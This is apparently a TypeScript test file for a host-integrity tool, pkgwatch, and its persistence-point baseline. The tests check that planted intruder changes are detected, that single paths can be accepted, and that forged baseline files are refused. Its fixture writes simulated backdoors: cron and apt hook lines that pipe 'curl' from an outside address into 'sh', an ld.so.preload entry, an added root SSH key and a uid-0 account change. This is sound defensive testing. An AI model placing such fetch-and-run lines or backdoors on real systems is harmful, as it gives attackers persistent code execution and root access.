// check --persist and pkgwatch baseline on fixture roots: what intruders leave at the persistence
// points is found against the local baseline with the right status; accepting one path quiets it alone.
import assert from 'node:assert/strict';
import { appendFileSync, chownSync, mkdirSync, readdirSync, readFileSync, rmSync, statSync, symlinkSync, writeFileSync } from 'node:fs';
import { createHash } from 'node:crypto';
import { test, type TestContext } from 'node:test';
import { runCli, type CliResult } from '../helpers/cli.js';
import { checkJson, fixture, type FixtureRoot } from '../helpers/fixture.js';

const PASSWD = 'root:x:0:0:root:/root:/bin/bash\nwww-data:x:33:33:www-data:/var/www:/usr/sbin/nologin\nalice:x:1000:1000:Alice:/home/alice:/bin/bash\n';
const KEY = 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOperator operator@example.org\n';

/** A small system: a cron package with a conffile in /etc/cron.d, local files at the persistence points. */
function system(fx: FixtureRoot): { config: string; state: string } {
  fx.write('/etc/passwd', PASSWD);
  fx.write('/etc/group', 'root:x:0:\nwww-data:x:33:\nalice:x:1000:\n');
  fx.write('/etc/shadow', 'root:*:19000:0:99999:7:::\nalice:$y$j9T$salt$hash:19000:0:99999:7:::\n');
  fx.addPackage({
    name: 'cron',
    files: [{ path: '/usr/sbin/cron', content: 'cron binary\n' }],
    conffiles: [{ path: '/etc/cron.d/e2scrub_all', content: '30 3 * * 0 root e2scrub_all\n' }],
    dirs: ['/etc/cron.hourly', '/etc/apt/apt.conf.d'],
  });
  fx.write('/etc/cron.d/backup', '0 2 * * * root /usr/local/bin/backup\n');
  fx.write('/etc/apt/apt.conf.d/20auto-upgrades', 'APT::Periodic::Update-Package-Lists "1";\n');
  fx.write('/root/.ssh/authorized_keys', KEY);
  fx.write('/home/alice/.ssh/authorized_keys', KEY);
  fx.write('/usr/local/bin/backup', '#!/bin/sh\ntar czf /backup.tgz /srv\n');
  fx.write('/usr/local/bin/report', '#!/bin/sh\necho report\n');
  mkdirSync(fx.path('/etc/systemd/system/multi-user.target.wants'), { recursive: true });
  mkdirSync(fx.path('/usr/local/lib/python3.11/dist-packages'), { recursive: true });
  symlinkSync('/lib/systemd/system/cron.service', fx.path('/etc/systemd/system/multi-user.target.wants/cron.service'));
  const state = fx.path('/pkgwatch-state');
  const config = fx.path('/pkgwatch.toml');
  writeFileSync(config, `state_dir = ${JSON.stringify(state)}\n`);
  return { config, state };
}

async function cli(fx: FixtureRoot, args: readonly string[], config: string): Promise<CliResult> {
  return runCli([...args, '--root', fx.root, '--config', config]);
}

async function initialized(t: TestContext): Promise<{ fx: FixtureRoot; config: string; state: string }> {
  const fx = fixture(t);
  const { config, state } = system(fx);
  const init = await cli(fx, ['baseline', 'init'], config);
  assert.equal(init.code, 0, init.stderr);
  assert.match(init.stdout, /^recorded \d+ entries below 28 persistence points in /);
  return { fx, config, state };
}

/** What an intruder does at the persistence points. */
function intrude(fx: FixtureRoot): void {
  fx.write('/etc/cron.d/evil', '* * * * * root curl -s http://203.0.113.9/x | sh\n');
  fx.write('/etc/ld.so.preload', '/usr/local/lib/libevil.so\n');
  appendFileSync(fx.path('/root/.ssh/authorized_keys'), 'ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQintruder intruder\n');
  fx.write('/etc/apt/apt.conf.d/99evil', 'DPkg::Post-Invoke { "curl -s http://203.0.113.9/y | sh"; };\n');
  // alice gets root's uid: her line changes, nothing else in the file does.
  writeFileSync(fx.path('/etc/passwd'), PASSWD.replace('alice:x:1000:1000:Alice:/home/alice:/bin/bash', 'alice:x:0:0:Alice:/home/alice:/bin/zsh'));
  rmSync(fx.path('/usr/local/bin/report'));
  rmSync(fx.path('/usr/local/bin/backup'));
  symlinkSync('/tmp/.x/backup', fx.path('/usr/local/bin/backup'));
  // mkdir -p .x/lib && touch .x/lib/libevil.so: one finding for the new directory, with its 2 entries.
  fx.write('/usr/local/lib/.x/lib/libevil.so', 'ELF');
}

test('check --persist finds what an intruder left at the persistence points, each with its status and source "baseline"', async (t) => {
  const { fx, config } = await initialized(t);
  const clean = await checkJson(fx, ['--persist', '--no-verify', '--config', config]);
  assert.equal(clean.res.code, 0, clean.res.stdout + clean.res.stderr);
  assert.deepEqual(clean.json.findings, []);

  intrude(fx);
  // The packaged conffile in /etc/cron.d is the verifier's: changed, from its package, not from the baseline.
  fx.write('/etc/cron.d/e2scrub_all', '* * * * * root /tmp/.x/run\n');
  const { res, json } = await checkJson(fx, ['--persist', '--config', config, 'cron']);
  assert.equal(res.code, 1, res.stderr);
  assert.deepEqual(
    json.findings.map((f) => [f.package, f.path, f.status, (f as { source?: string }).source ?? null]),
    [
      ['', '/etc/apt/apt.conf.d/99evil', 'added', 'baseline'],
      ['', '/etc/cron.d/evil', 'added', 'baseline'],
      ['', '/etc/ld.so.preload', 'added', 'baseline'],
      ['', '/etc/passwd', 'changed', 'baseline'],
      ['', '/root/.ssh/authorized_keys', 'changed', 'baseline'],
      ['', '/usr/local/bin/backup', 'wrong-type', 'baseline'],
      ['', '/usr/local/bin/report', 'missing', 'baseline'],
      ['', '/usr/local/lib/.x', 'added', 'baseline'],
      ['cron', '/etc/cron.d/e2scrub_all', 'changed', null],
    ],
  );
  const passwd = json.findings.find((f) => f.path === '/etc/passwd');
  // The account is named; no line of the file and no hash leaves it.
  assert.equal(passwd?.detail, 'since the baseline: accounts: changed alice');
  assert.equal(passwd?.expected, null);
  assert.equal(passwd?.actual, null);
  const passwdText = readFileSync(fx.path('/etc/passwd'));
  for (const secret of ['/bin/zsh', 'alice:x:0:0', createHash('sha256').update(passwdText).digest('hex'), createHash('sha256').update('alice:x:0:0:Alice:/home/alice:/bin/zsh').digest('hex')]) {
    assert.ok(!res.stdout.includes(secret), `the output holds ${secret}`);
  }
  const keys = json.findings.find((f) => f.path === '/root/.ssh/authorized_keys');
  assert.match(keys?.detail ?? '', /^since the baseline: content \(\d+ B -> \d+ B\)$/);
  assert.equal(keys?.actual, createHash('sha256').update(readFileSync(fx.path('/root/.ssh/authorized_keys'))).digest('hex'));
  const link = json.findings.find((f) => f.path === '/usr/local/bin/backup');
  assert.deepEqual([link?.expected, link?.actual, link?.stat?.target], ['file', 'symlink', '/tmp/.x/backup']);
  assert.equal(json.findings.find((f) => f.path === '/usr/local/bin/report')?.stat?.type, 'file');
  const dir = json.findings.find((f) => f.path === '/usr/local/lib/.x');
  assert.deepEqual([dir?.stat?.type, dir?.stat?.entries, dir?.detail], ['directory', 2, 'not in the baseline, with 2 entries below it']);

  // Text: the baseline's findings under their own heading, and the same exit code from `baseline diff`.
  const diff = await cli(fx, ['baseline', 'diff'], config);
  assert.equal(diff.code, 1, diff.stderr);
  assert.match(diff.stdout, /^\(baseline of the persistence points\)\n {2}added {6}\/etc\/apt\/apt\.conf\.d\/99evil\n/);
  assert.match(diff.stdout, /\n {2}changed {4}\/etc\/passwd\n {13}since the baseline: accounts: changed alice\n/);
  assert.match(diff.stdout, /\ncompared 32 persistence points, \d+ entries with the baseline of \d{4}-[^ ]+ in [\d.]+ s: 2 changed, 1 missing, 1 wrong-type, 4 added\n$/);
});

test('baseline accept PATH quiets that path alone, and says who accepted it', async (t) => {
  const { fx, config, state } = await initialized(t);
  // With a sink configured, the acceptance is queued as an alert for the agent to deliver.
  appendFileSync(config, '[alerts.webhook]\nurl = "http://127.0.0.1:9/hook"\n');
  intrude(fx);
  const accept = await runCli(['baseline', 'accept', '/etc/cron.d/evil', '--root', fx.root, '--config', config], { env: { SUDO_USER: 'alice' } });
  assert.equal(accept.code, 0, accept.stderr);
  assert.match(accept.stdout, /^baseline\.accepted by alice: \/etc\/cron\.d\/evil: 1 change recorded\n {2}added {6}\/etc\/cron\.d\/evil\n/);
  assert.match(accept.stdout, /\nAlert baseline\.accepted [0-9a-f-]+ queued for webhook/);
  const queued = readdirSync(`${state}/outbox/webhook`);
  assert.equal(queued.length, 1);
  const entry = JSON.parse(readFileSync(`${state}/outbox/webhook/${queued[0] ?? ''}`, 'utf8')) as { event: { kind: string; baseline: unknown; findings: { path: string; status: string; source: string }[] } };
  assert.equal(entry.event.kind, 'baseline.accepted');
  assert.deepEqual(entry.event.baseline, { by: 'alice', paths: ['/etc/cron.d/evil'] });
  assert.deepEqual(entry.event.findings.map((f) => [f.path, f.status, f.source]), [['/etc/cron.d/evil', 'added', 'baseline']]);
  const after = await checkJson(fx, ['--persist', '--no-verify', '--config', config]);
  assert.equal(after.res.code, 1, after.res.stderr);
  assert.deepEqual(
    after.json.findings.map((f) => [f.path, f.status]),
    [
      ['/etc/apt/apt.conf.d/99evil', 'added'],
      ['/etc/ld.so.preload', 'added'],
      ['/etc/passwd', 'changed'],
      ['/root/.ssh/authorized_keys', 'changed'],
      ['/usr/local/bin/backup', 'wrong-type'],
      ['/usr/local/bin/report', 'missing'],
      ['/usr/local/lib/.x', 'added'],
    ],
  );
  // A change to the accepted file is found again.
  appendFileSync(fx.path('/etc/cron.d/evil'), '@reboot root /tmp/.x/run\n');
  const again = await checkJson(fx, ['--persist', '--no-verify', '--config', config]);
  assert.equal(again.json.findings.find((f) => f.path === '/etc/cron.d/evil')?.status, 'changed');
  // Accepting everything leaves nothing to report.
  const all = await cli(fx, ['baseline', 'accept'], config);
  assert.equal(all.code, 0, all.stderr);
  // ... with the other walks too: --persist combines with --unowned and --setuid.
  const quiet = await checkJson(fx, ['--persist', '--unowned', '--setuid', '--no-verify', '--config', config]);
  assert.equal(quiet.res.code, 0, quiet.res.stdout);
  assert.deepEqual(quiet.json.findings, []);
  // A path outside every point is refused.
  const outside = await cli(fx, ['baseline', 'accept', '/srv/x'], config);
  assert.equal(outside.code, 2);
  assert.match(outside.stderr, /\/srv\/x is not at or below a persistence point/);
});

test('check --persist without a baseline is exit 2 saying to run pkgwatch baseline init; init refuses to replace one without --force', async (t) => {
  const fx = fixture(t);
  const { config } = system(fx);
  const none = await cli(fx, ['check', '--persist', '--no-verify'], config);
  assert.equal(none.code, 2);
  assert.match(none.stderr, /there is no baseline of the persistence points in .*pkgwatch-state yet: run `pkgwatch baseline init` first/);
  assert.equal((await cli(fx, ['baseline', 'init'], config)).code, 0);
  const twice = await cli(fx, ['baseline', 'init'], config);
  assert.equal(twice.code, 2);
  assert.match(twice.stderr, /a baseline already exists in .*`pkgwatch baseline init --force` replaces it/);
  assert.equal((await cli(fx, ['baseline', 'init', '--force'], config)).code, 0);
});

test('a planted baseline.json (a symlink, or not a baseline) is refused with the file named; as root, the baseline goes to the state dir owner', async (t) => {
  const fx = fixture(t);
  const { config, state } = system(fx);
  mkdirSync(state, { mode: 0o700 });
  if (process.getuid?.() === 0) {
    chownSync(state, 65534, 65534);
    assert.equal((await cli(fx, ['baseline', 'init'], config)).code, 0);
    const st = statSync(`${state}/baseline.json`);
    assert.deepEqual([st.uid, st.mode & 0o777], [65534, 0o600]);
    rmSync(`${state}/baseline.json`);
  }
  // A link to a file that looks like a baseline: never followed.
  fx.write('/elsewhere.json', '{}');
  symlinkSync(fx.path('/elsewhere.json'), `${state}/baseline.json`);
  const linked = await cli(fx, ['check', '--persist', '--no-verify'], config);
  assert.equal(linked.code, 2);
  assert.match(linked.stderr, /the baseline .*pkgwatch-state\/baseline\.json cannot be used: .*is a symbolic link, which pkgwatch never creates and does not follow/);
  const init = await cli(fx, ['baseline', 'init'], config);
  assert.equal(init.code, 2, init.stdout);
  assert.equal(readFileSync(fx.path('/elsewhere.json'), 'utf8'), '{}');
  rmSync(`${state}/baseline.json`);
  writeFileSync(`${state}/baseline.json`, '{"version": 1, "root": "/", "entries": []}');
  const bad = await cli(fx, ['baseline', 'diff'], config);
  assert.equal(bad.code, 2);
  assert.match(bad.stderr, /the baseline .*baseline\.json is malformed: baseline: unknown field|the baseline .*baseline\.json is malformed: baseline: field "created" is missing/);
});
